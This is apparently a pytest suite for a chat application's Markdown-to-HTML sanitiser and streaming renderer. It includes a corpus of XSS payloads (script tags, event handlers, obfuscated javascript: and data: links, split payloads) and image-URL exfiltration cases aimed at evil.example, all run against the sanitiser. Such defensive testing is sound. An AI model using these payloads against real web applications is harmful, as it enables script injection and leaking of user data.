"""Tests for chat.render: the one Markdown -> safe HTML pipeline (no database)."""

from __future__ import annotations

import random
import re
from html.parser import HTMLParser

import markdown
import pytest

from chat.render import blocks as render_mod  # where IncrementalRenderer looks render_markdown up
from chat.render import (
    IncrementalRenderer,
    RenderUpdate,
    pygments_css,
    render_markdown,
    render_plain_escaped,
)

# ---------------------------------------------------------------------------
# helpers
# ---------------------------------------------------------------------------

SAFE_TAGS = {
    "p",
    "br",
    "hr",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "strong",
    "em",
    "del",
    "code",
    "pre",
    "span",
    "blockquote",
    "ul",
    "ol",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
    "div",
}
SAFE_ATTRS = {
    "a": {"href", "title", "rel", "class"},
    "span": {"class"},
    "div": {"class"},
    "th": {"align"},
    "td": {"align"},
    "ol": {"start"},
}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def parse_tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    c = _Collector()
    c.feed(html)
    c.close()
    return c.tags


def assert_safe(html: str) -> None:
    """Structural check: only allowlisted tags/attributes, only safe link targets."""
    for tag, attrs in parse_tags(html):
        assert tag in SAFE_TAGS, (tag, html)
        for name, value in attrs.items():
            assert name in SAFE_ATTRS.get(tag, set()), (tag, name, html)
            assert not name.startswith("on"), html
        if tag == "a":
            assert attrs.get("rel") == "noopener noreferrer nofollow", html
            assert "target" not in attrs
            href = attrs.get("href")
            if href is not None:
                assert re.match(r"^(https?://|mailto:)", href), (href, html)
                assert not re.search(r"[\x00-\x20\x7f]", href), (href, html)
    lowered = html.lower()
    for bad in (
        "<script",
        "<img",
        "<svg",
        "<iframe",
        "<object",
        "<embed",
        "<style",
        "<link",
        "<meta",
        "<base",
        "<form",
        "<math",
        "javascript:",
        "vbscript:",
        "data:text",
    ):
        if bad in ("javascript:", "vbscript:", "data:text"):
            # may only appear as inert, escaped *text* - never inside an attribute
            for _tag, attrs in parse_tags(html):
                for value in attrs.values():
                    assert bad not in (value or "").lower(), html
        else:
            assert bad not in lowered, (bad, html)


def norm(html: str) -> str:
    """Whitespace between blocks does not matter."""
    return re.sub(r"\n+", "\n", html.strip())


def stream(text: str, chunks: list[str] | None = None, *, size: int = 0, seed: int = 0):
    """Feed text through an IncrementalRenderer; return (all blocks, renderer, updates)."""
    if chunks is None:
        rng = random.Random(seed)
        chunks = []
        pos = 0
        while pos < len(text):
            n = 1 if size == 0 else rng.randint(1, size)
            chunks.append(text[pos : pos + n])
            pos += n
    r = IncrementalRenderer()
    blocks: list[str] = []
    updates: list[RenderUpdate] = []
    fed = ""
    for chunk in chunks:
        u = r.feed(chunk)
        fed += chunk
        updates.append(u)
        blocks.extend(u.blocks)
        assert u.tail == fed[u.consumed :]
        assert r.consumed == u.consumed
    u = r.finish()
    updates.append(u)
    blocks.extend(u.blocks)
    assert u.tail == "" and u.done and r.consumed == len(text)
    return blocks, r, updates


# ---------------------------------------------------------------------------
# XSS corpus
# ---------------------------------------------------------------------------

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x></object><embed src=x>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<div>\n<script>alert(1)</script>\n</div>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed;top:0">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=a></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav&#9;ascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '[x](https://ok.example "<script>alert(1)</script>")',
    '[x](https://ok.example "" onmouseover=alert(1) x="")',
    '[x](https://ok.example" onclick="alert(1))',
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: jav&#x09;ascript:alert(1)",
    '[x][r]\n\n[r]: https://ok.example "<img src=x onerror=alert(1)>"',
    "[r]\n\n[r]: data:text/html,hi",
    "![x](javascript:alert(1))",
    '![a" onerror="alert(1)](https://img.example/a.png)',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "> <iframe src=javascript:alert(1)>",
    "- <svg/onload=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "*<img src=x onerror=alert(1)>*",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
]


@pytest.mark.parametrize("payload", XSS)
def test_xss_corpus_whole(payload):
    assert_safe(render_markdown(payload))


@pytest.mark.parametrize("payload", XSS)
def test_xss_corpus_incremental(payload):
    text = f"Intro paragraph.\n\n{payload}\n\nOutro *paragraph*.\n"
    for size in (0, 3, 11):
        blocks, _, _ = stream(text, size=size, seed=size)
        for b in blocks:
            assert_safe(b)


def test_script_is_shown_as_text():
    out = render_markdown("Look: <script>alert(1)</script> done")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert "<script" not in out


def test_html_block_is_escaped_not_passed_through():
    out = render_markdown("<div onclick=alert(1)>\nhello\n</div>")
    assert "<div" not in out
    assert "&lt;div onclick=alert(1)&gt;" in out


@pytest.mark.parametrize(
    "payload",
    [
        "[x](javascript:alert(1))",
        "[x](jav&#x09;ascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](data:text/html,hi)",
        "[x](vbscript:msgbox(1))",
        "[x](\x01javascript:alert(1))",
    ],
)
def test_dangerous_link_href_removed(payload):
    out = render_markdown(payload)
    ((tag, attrs),) = [t for t in parse_tags(out) if t[0] == "a"]
    assert "href" not in attrs


def test_link_title_html_is_escaped():
    out = render_markdown('[x](https://ok.example "<b onmouseover=alert(1)>")')
    ((tag, attrs),) = [t for t in parse_tags(out) if t[0] == "a"]
    assert attrs["title"] == "<b onmouseover=alert(1)>"  # an inert attribute value
    assert "<b" not in out


def test_markdown_autolink_javascript_is_text():
    out = render_markdown("<javascript:alert(1)>")
    assert "<a" not in out
    assert "&lt;javascript:alert(1)&gt;" in out


def test_reference_style_links():
    ok = render_markdown('See [docs][d].\n\n[d]: https://docs.example/a "Docs"')
    assert '<a href="https://docs.example/a" title="Docs"' in ok
    bad = render_markdown("See [docs][d].\n\n[d]: javascript:alert(1)")
    assert "href" not in bad


def test_no_style_attributes_anywhere():
    out = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\n```py\nx = 1\n```")
    assert "style=" not in out
    assert 'align="left"' in out and 'align="center"' in out and 'align="right"' in out


def test_relative_and_protocol_relative_urls_dropped():
    out = render_markdown("[a](/admin/delete) [b](../x) [c](//evil.example/x) [d](#top)")
    for _tag, attrs in parse_tags(out):
        assert "href" not in attrs


# ---------------------------------------------------------------------------
# links, images
# ---------------------------------------------------------------------------


def test_links_get_rel_and_same_tab():
    out = render_markdown("[site](https://example.com/a?b=1&c=2) and <https://auto.example>")
    links = [a for t, a in parse_tags(out) if t == "a"]
    assert [a["href"] for a in links] == ["https://example.com/a?b=1&c=2", "https://auto.example"]
    for a in links:
        assert a["rel"] == "noopener noreferrer nofollow"
        assert "target" not in a


def test_mailto_kept():
    out = render_markdown("[mail](mailto:someone@example.com) or <other@example.com>")
    hrefs = [a.get("href") for t, a in parse_tags(out) if t == "a"]
    assert hrefs == ["mailto:someone@example.com", "mailto:other@example.com"]


def test_remote_image_becomes_click_to_load_link():
    out = render_markdown("![a cat](http://img.example/cat.png)")
    assert "<img" not in out
    tags = parse_tags(out)
    ((tag, attrs),) = [t for t in tags if t[0] == "a"]
    assert attrs["class"] == "remote-image"
    assert attrs["href"] == "http://img.example/cat.png"
    assert attrs["rel"] == "noopener noreferrer nofollow"
    assert "🖼 a cat (image: img.example)" in out


def test_exfiltration_image_makes_no_automatic_request():
    for md in (
        "![x](https://evil.example/?q=secret)",
        "![x][r]\n\n[r]: https://evil.example/?q=secret",
        "[![x](https://evil.example/?q=secret)](https://ok.example)",
    ):
        out = render_markdown(md)
        assert "<img" not in out
        # Only a clickable link may point at the URL: no src=, no srcset, no background.
        for tag, attrs in parse_tags(out):
            assert "src" not in attrs and "srcset" not in attrs
            if "evil.example" in str(attrs.values()):
                assert tag == "a"


def test_image_inside_link_does_not_nest_anchors():
    out = render_markdown("[![alt](http://img.example/a.png)](https://link.example)")
    assert out.count("<a ") == 1
    assert '<span class="remote-image">🖼 alt (image: img.example)</span>' in out
    assert "<img" not in out


def test_image_with_bad_scheme_has_no_href():
    out = render_markdown("![x](javascript:alert(1)) ![y](data:image/png;base64,AAAA)")
    assert "<img" not in out
    for _tag, attrs in parse_tags(out):
        assert "href" not in attrs
    assert "🖼 x (image)" in out


# ---------------------------------------------------------------------------
# code, tables, misc markdown
# ---------------------------------------------------------------------------


def test_code_highlighted_with_classes_only():
    out = render_markdown("```python\ndef f(x):\n    return '<b>'\n```")
    assert 'class="highlight"' in out
    assert '<span class="k">def</span>' in out
    assert '<span class="nf">f</span>' in out
    assert "&lt;b&gt;" in out
    assert "style=" not in out
    assert_safe(out)


def test_tilde_fence_and_unknown_language():
    out = render_markdown("~~~nosuchlanguage\n<x>\n~~~")
    assert 'class="highlight"' in out and "&lt;x&gt;" in out


def test_tables_render():
    out = render_markdown("| Name | Qty |\n|------|----:|\n| a *b* | 1 |\n| c | 22 |")
    assert "<table>" in out and "<thead>" in out and "<tbody>" in out
    assert "<th>Name</th>" in out and '<th align="right">Qty</th>' in out
    assert "<td><em>b</em>" not in out and "<td>a <em>b</em></td>" in out
    assert_safe(out)


def test_basic_markdown_and_no_nl2br():
    out = render_markdown("# H\n\nline one\nline two\n\n~~gone~~ **b** _i_\n\n---\n\n> q")
    assert "<h1>H</h1>" in out
    assert "<p>line one\nline two</p>" in out  # nl2br is not enabled
    assert "<br" not in out
    assert "<del>gone</del>" in out and "<strong>b</strong>" in out and "<em>i</em>" in out
    assert "<hr>" in out and "<blockquote>" in out


def test_sane_lists():
    out = render_markdown("1. a\n2. b\n\n- c\n- d\n\n3. e")
    assert out.count("<ol") == 2 and out.count("<ul>") == 1
    assert '<ol start="3">' in out


def test_empty_input():
    assert render_markdown("") == ""
    assert render_markdown("  \n\n ") == ""


def test_pathological_nesting_falls_back_to_escaped_text():
    text = "- " * 3000 + "<script>x</script>"
    out = render_markdown(text)
    assert "<script" not in out
    assert_safe(out)
    # The renderer recovers afterwards.
    assert render_markdown("*ok*") == "<p><em>ok</em></p>"


def test_render_plain_escaped():
    assert render_plain_escaped("<b>&\"'") == "&lt;b&gt;&amp;&quot;&#x27;"


def test_pygments_css_light_and_dark():
    css = pygments_css()
    light, dark = css.split("@media (prefers-color-scheme: dark)", 1)
    assert ".highlight .k" in light and ".highlight .k" in dark
    assert ".highlight {" in light and ".highlight {" in dark
    # scoped: no bare global rules such as "pre { ... }" leaking onto the page
    for line in css.splitlines():
        stripped = line.strip()
        if stripped and not stripped.startswith(("/*", "@media", "}", "color:")):
            assert stripped.startswith(".highlight"), stripped
    assert dark.strip().endswith("}")
    assert css.count("{") == css.count("}")


# ---------------------------------------------------------------------------
# incremental rendering
# ---------------------------------------------------------------------------

DOCS = {
    "llm_answer": """# Deploying the app

Here is a short guide with **bold**, _emphasis_, `inline code` and a [link](https://example.com).
The paragraph continues on a second line.

## Steps

1. Install the dependencies
2. Configure the settings
   (this line continues item 2)

3. Run the migrations

- first bullet
- second bullet
    - nested bullet

- loose bullet

    A second paragraph inside the loose bullet.

> A quote that
> spans two lines.

> And a second quoted paragraph.

```python
def main():
    print("hello")


    return 0
```

| Option | Default | Notes |
|:-------|:-------:|------:|
| debug  | false   | dev   |
| port   | 8000    |       |

    an indented code block

    with a blank line inside

Closing words with ![a diagram](https://img.example/d.png) and ~~strike~~.

---

Setext heading
==============

Final paragraph.
""",
    "fences": """Intro

~~~
tilde fence with ``` inside

```
still the same block
~~~

````markdown
```python
x = 1

y = 2
```
````

```
unclosed fence at the end

keeps going
""",
    "crlf_and_tabs": "Para one\r\n\r\n- a\r\n\r\n- b\r\n\r\n\tcode\r\n\r\n\tmore\r\n\r\n```\r\ncode\r\n\r\nmore\r\n```\r\n\r\nEnd\r\n",
    "list_switching": "1. one\n\n- two\n\n3) three\n\n* four\n\ntext\n\n> q\n\n>\n\n> r\n\ndone",
    "headings_and_lists": "# A\n- x\n\n- y\n\n## B\n> q\n\n> q2\n\ntext\n\n\n\n\nmore\n\n* * *\n\n- after hr",
    "no_trailing_newline": "one\n\ntwo\n\n```\nthree\n```",
    "xss_mix": "Hi <script>alert(1)</script>\n\n[x](javascript:alert(1))\n\n![i](https://e.example/?q=1)\n\n<img src=x onerror=alert(1)>",
}


@pytest.mark.parametrize("name", sorted(DOCS))
@pytest.mark.parametrize("size", [0, 1, 4, 17, 80, 100_000])
def test_incremental_equals_whole(name, size):
    text = DOCS[name]
    blocks, r, _ = stream(text, size=size, seed=size)
    assert norm("\n".join(blocks)) == norm(render_markdown(text))
    assert r.blocks == blocks


def test_incremental_splits_into_several_blocks():
    blocks, _, _ = stream(DOCS["llm_answer"], size=5, seed=1)
    assert len(blocks) >= 10
    assert len(set(blocks)) == len(blocks)  # each rendered once, no repeats


def test_incremental_equals_whole_randomised():
    fragments = [
        "- a",
        "1. b",
        "2) c",
        "> q",
        "    code",
        "  two",
        "```",
        "```py",
        "~~~",
        "",
        "",
        "",
        "para *x*",
        "# h",
        "---",
        "| a | b |",
        "|---|---|",
        "\t- t",
        "Setext",
        "===",
        "* * *",
        " > sp",
        "   - sp",
        "+ plus",
        ">",
        "text\r",
        "a\rb",
        "1.",
        "-",
        "10. ten",
        "x\r\r- y",
        "```\x03",
        "<b>",
    ]
    rng = random.Random(1234)
    for _ in range(400):
        lines = [rng.choice(fragments) if rng.random() < 0.6 else "" for _ in range(rng.randint(1, 25))]
        text = "\n".join(lines) + ("\n" if rng.random() < 0.5 else "")
        whole = norm(render_markdown(text))
        for size in (0, 6):
            blocks, _, _ = stream(text, size=size, seed=size)
            assert norm("\n".join(blocks)) == whole, repr(text)


def test_paragraph_is_emitted_when_next_block_starts():
    r = IncrementalRenderer()
    assert r.feed("First paragraph.\n\n").blocks == []  # might still continue a list etc.
    u = r.feed("Sec")
    assert u.blocks == ["<p>First paragraph.</p>"]
    assert u.tail == "Sec"
    assert r.consumed == len("First paragraph.\n\n")


def test_loose_list_items_kept_together():
    r = IncrementalRenderer()
    u1 = r.feed("- a\n\n- b\n\n")
    u2 = r.feed("- c\n\nAfter")
    assert u1.blocks == []
    assert len(u2.blocks) == 1 and u2.blocks[0].count("<ul>") == 1
    assert u2.blocks[0].count("<li>") == 3
    assert r.finish().blocks == ["<p>After</p>"]


def test_never_emits_partial_fenced_code_block():
    text = "Intro\n\n```python\nline_one = 1\n\nline_two = 2\n\n\n# a comment\n```\n\nAfter\n"
    close = text.index("```\n\nAfter") + len("```\n")
    r = IncrementalRenderer()
    fed = 0
    for ch in text:
        u = r.feed(ch)
        fed += 1
        for b in u.blocks:
            if "line_one" in b or "line_two" in b or "comment" in b:
                # the code block is only emitted once its closing fence is complete,
                # and then as one piece
                assert fed > close
                assert "line_one" in b and "line_two" in b and "comment" in b
                assert b.count('class="highlight"') == 1
        if "```python" in text[:fed] and fed <= close:
            assert "line_one" not in "".join(r.blocks)
    r.finish()
    code_blocks = [b for b in r.blocks if "highlight" in b]
    assert len(code_blocks) == 1


def test_unclosed_fence_stays_in_tail_until_finish():
    r = IncrementalRenderer()
    u = r.feed("Intro\n\n```\ncode\n\nmore code\n\n")
    assert u.blocks == ["<p>Intro</p>"]
    u = r.feed("and more\n\nstill\n\n")
    assert u.blocks == []
    assert u.tail.startswith("```\ncode")
    fin = r.finish()
    assert fin.tail == "" and len(fin.blocks) == 1
    assert fin.blocks[0] == render_markdown("```\ncode\n\nmore code\n\nand more\n\nstill\n\n")


def test_tail_is_raw_text_and_consumed_offsets():
    text = "Para <b>one</b>.\n\n## Two\n\nthree <i>"
    r = IncrementalRenderer()
    for i, ch in enumerate(text, 1):
        u = r.feed(ch)
        assert text[: u.consumed] + u.tail == text[:i]
    assert u.tail == "three <i>"  # raw, for textContent only
    snap = r.snapshot()
    assert snap.blocks == ["<p>Para &lt;b&gt;one&lt;/b&gt;.</p>", "<h2>Two</h2>"]
    assert snap.tail == "three <i>" and snap.consumed == len(text) - len("three <i>")
    assert render_plain_escaped(snap.tail) == "three &lt;i&gt;"


def test_feed_after_finish_raises_and_finish_is_idempotent():
    r = IncrementalRenderer()
    r.feed("x")
    assert r.finish().blocks == ["<p>x</p>"]
    assert r.finish().blocks == []
    with pytest.raises(RuntimeError):
        r.feed("y")


def test_empty_stream():
    r = IncrementalRenderer()
    assert r.feed("").blocks == []
    fin = r.finish()
    assert fin.blocks == [] and fin.tail == "" and fin.consumed == 0


SPLIT_PAYLOADS = [
    ["<scr", "ipt>alert(1)</scr", "ipt>"],
    ["[x](java", "script:alert(1))"],
    ["[x](jav&#x0", "9;ascript:alert(1))"],
    ["<img src=x on", "error=alert(1)>"],
    ["<sv", "g onload=alert(1)>"],
    ["<ifr", "ame src=javascript:alert(1)></iframe>"],
    ["![x](https://evil.exam", "ple/?q=secret)"],
    ["<java", "script:alert(1)>"],
    ["[x][r]\n\n", "[r]: java", "script:alert(1)\n"],
    ["```\n", "<script>alert(1)</script>\n", "```\n\n<scr", "ipt>x</script>"],
    ["para\n\n", "<scr", "ipt>\n\n", "alert(1)</scr", "ipt>\n\n"],
    ["<", 'a href="javascript:alert(1)">x</a>'],
    ["<p sty", 'le="color:red">x</p>'],
]


@pytest.mark.parametrize("chunks", SPLIT_PAYLOADS)
def test_split_payloads_never_executable(chunks):
    text = "".join(chunks)
    for prefix in ("", "Intro\n\n"):
        blocks, _, updates = stream(prefix + text, [prefix, *chunks] if prefix else chunks)
        for b in blocks:
            assert_safe(b)
        assert_safe(render_markdown(prefix + text))
        for u in updates:
            # tails are raw text for textContent; escaping them yields no markup
            assert "<" not in render_plain_escaped(u.tail)
    # every character-level split as well
    for cut in range(1, len(text)):
        blocks, _, _ = stream(text, [text[:cut], text[cut:]])
        for b in blocks:
            assert_safe(b)


def test_markdown_converter_called_per_block_not_per_delta(monkeypatch):
    calls = {"n": 0}
    original = markdown.Markdown.convert

    def counting_convert(self, source):
        calls["n"] += 1
        return original(self, source)

    monkeypatch.setattr(markdown.Markdown, "convert", counting_convert)

    doc = DOCS["llm_answer"] * 6
    deltas = 2000
    step = max(1, len(doc) // deltas)
    chunks = [doc[i : i + step] for i in range(0, len(doc), step)]
    assert len(chunks) >= 2000

    lines_seen = {"n": 0}
    original_process = IncrementalRenderer._process_line

    def counting_process(self, raw, start):
        lines_seen["n"] += 1
        return original_process(self, raw, start)

    monkeypatch.setattr(IncrementalRenderer, "_process_line", counting_process)

    blocks, r, _ = stream(doc, chunks)
    assert len(r.blocks) == len(blocks)
    # One converter call per non-empty finished block (plus possibly empty ones);
    # never one per delta.
    assert len(blocks) <= calls["n"] <= len(blocks) + 6
    assert calls["n"] < len(chunks) / 20
    # Each source line is scanned exactly once.
    assert lines_seen["n"] == doc.count("\n")


def test_render_markdown_is_the_only_converter(monkeypatch):
    seen = []
    original = render_mod.render_markdown

    def spy(text):
        seen.append(text)
        return original(text)

    monkeypatch.setattr(render_mod, "render_markdown", spy)
    text = "a\n\nb\n\nc"
    blocks, _, _ = stream(text, size=2, seed=3)
    assert "".join(seen) == text  # every source char rendered exactly once
    assert blocks == ["<p>a</p>", "<p>b</p>", "<p>c</p>"]
